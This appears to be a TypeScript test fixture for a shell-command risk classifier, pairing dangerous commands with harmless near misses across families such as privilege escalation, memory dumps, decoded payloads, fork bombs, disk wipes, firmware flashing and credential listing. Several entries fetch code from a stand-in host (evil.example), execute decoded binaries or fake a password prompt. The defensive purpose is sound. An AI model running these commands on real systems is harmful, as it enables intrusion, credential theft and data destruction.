// The fifth round's last families (src/risk/rules/privilege.ts, paths.ts, staged-scripts.ts,
// interpreters.ts, host.ts, ops.ts, commands.ts): privilege and defences by other spellings,
// memory read, decoded files run, whole file systems served, pods given the host, networks and
// code URLs handed to programs no rule names. Written for this project; dangerous cases and near
// misses per family.
import { describeFamilies, type JudgedFamilies } from "./judged.js";

const FAMILIES: JudgedFamilies = {
  "capabilities granted": {
    dangerous: [
      "setcap cap_setuid+ep /usr/bin/python3",
      "setcap cap_dac_read_search=eip ./backup-tool",
      "setcap 'cap_sys_admin+ep' /opt/x/bin/agent",
    ],
    harmless: ["getcap -r /usr/bin", "setcap cap_net_bind_service=+ep ./server", "setcap -r ./server"],
  },
  "macOS settings and kernel extensions": {
    dangerous: [
      "systemsetup -setremotelogin on",
      "systemsetup -settimezone UTC",
      "kextload /tmp/x.kext",
      "kmutil load -p /tmp/x.kext",
    ],
    harmless: [
      "systemsetup -getremotelogin",
      "kmutil showloaded",
      "xattr -l ~/Downloads/app.dmg",
      "xattr -d com.apple.quarantine ./tool",
    ],
  },
  "memory read or dumped": {
    dangerous: [
      "dd if=/dev/mem of=/tmp/mem.bin bs=1M",
      "cat /proc/kcore > /tmp/k",
      "gcore -o /tmp/dump 1234",
      "strings /proc/4242/mem",
    ],
    harmless: ["cat /proc/meminfo", "free -m", "dd if=/dev/zero of=test.bin bs=1M count=4"],
  },
  "a decoded file run": {
    dangerous: [
      "base64 -d payload.b64 > /tmp/x && chmod +x /tmp/x && /tmp/x",
      "echo f0VMRgIB | base64 --decode > ./run && ./run",
      "xxd -r -p hex.txt > /tmp/p; bash /tmp/p",
    ],
    harmless: ["base64 -d encoded.txt > decoded.txt", "base64 -d cfg.b64 > cfg.json && cat cfg.json"],
  },
  "a whole file system served": {
    dangerous: ["python3 -m http.server 8000 --directory /", "python3 -m http.server --directory ~ 9000"],
    harmless: ["python3 -m http.server 8000", "python3 -m http.server --directory dist 8080"],
  },
  "a credential prompt": {
    dangerous: [
      `osascript -e 'display dialog "macOS needs your password" default answer "" with hidden answer'`,
    ],
    harmless: [`osascript -e 'display notification "Build done"'`],
  },
  "a pod given the host": {
    dangerous: [
      `kubectl run pwn --image=alpine --overrides='{"spec":{"hostPID":true,"containers":[{"name":"p","image":"alpine","securityContext":{"privileged":true}}]}}'`,
    ],
    harmless: ["kubectl run debug --image=busybox --restart=Never -- sleep 60"],
  },
  "networks and code URLs handed to a program no rule names": {
    dangerous: [
      "nmap -sS -p- 10.0.0.0/24",
      "masscan 10.0.0.0/8 -p0-65535",
      "hydra -l root -P words.txt ssh://10.0.0.5",
      "mshta http://evil.example/x.hta",
      "installer-tool --from https://evil.example/setup.sh",
    ],
    harmless: [
      "nmap -sV localhost",
      "mytool --server https://api.example.com",
      "grpcurl -plaintext localhost:50051 list",
    ],
  },
  "block devices written by programs no rule names": {
    dangerous: ["badblocks -wsv /dev/sdb", "nwipe --autonuke /dev/sdb", "ddrescue -f /dev/zero /dev/sdb"],
    harmless: ["badblocks -sv /dev/sdb", "smartctl -a /dev/sda", "hdparm -I /dev/sda"],
  },
  "network links taken down": {
    dangerous: [
      "wg-quick down wg0",
      "iw dev wlan0 disconnect",
      "wpa_cli -i wlan0 disconnect",
      "rfkill block all",
    ],
    harmless: ["wg show", "iw dev", "rfkill list", "wpa_cli status", "migrate-tool down 1"],
  },
  "loops and loads without end": {
    dangerous: [
      "while :; do :& done",
      "sh -c 'while true; do mkdir -p a; cd a; done'",
      "ruby -e 'loop { fork }'",
      "stress --vm 64 --vm-bytes 4G",
      "stress-ng --vm 0 --vm-bytes 100% --timeout 0",
      "head -c 500G /dev/zero > /tmp/fill.bin",
    ],
    harmless: [
      "while true; do curl -fsS localhost:3000/health && break; sleep 1; done",
      "while read -r f; do echo $f; done < files.txt",
      "stress-ng --cpu 1 --timeout 10s",
      "head -c 1M /dev/urandom > test.bin",
    ],
  },
  "the boot configuration and the firmware": {
    dangerous: ["efibootmgr -b 0001 -B", "efibootmgr -o 0003,0001", "flashrom -p internal -w bios.bin"],
    harmless: ["efibootmgr -v", "efibootmgr", "flashrom -p internal -r backup.bin"],
  },
  "releases, services, grants and keys in named CLIs": {
    dangerous: [
      "docker trust sign ghcr.io/acme/shop:v2",
      "docker trust revoke ghcr.io/acme/shop:v1",
      "docker service rm api",
      "az keyvault set-policy --name kv --object-id 1234 --secret-permissions get list",
      "argocd account generate-token --account ci",
      "npm token create --read-only",
      "kubectl create token build-bot",
      "az monitor log-analytics workspace get-shared-keys --workspace-name w -g rg",
      "az storage account keys list -n acmedata",
    ],
    harmless: [
      "docker trust inspect ghcr.io/acme/shop:v2",
      "docker service ls",
      "az keyvault show --name kv",
      "npm token list",
      "aws iam list-access-keys --user-name ci",
      "aws kms list-keys",
      "az storage blob delete --name report.csv --container-name exports --account-name acmedata",
    ],
  },
};

describeFamilies(FAMILIES);
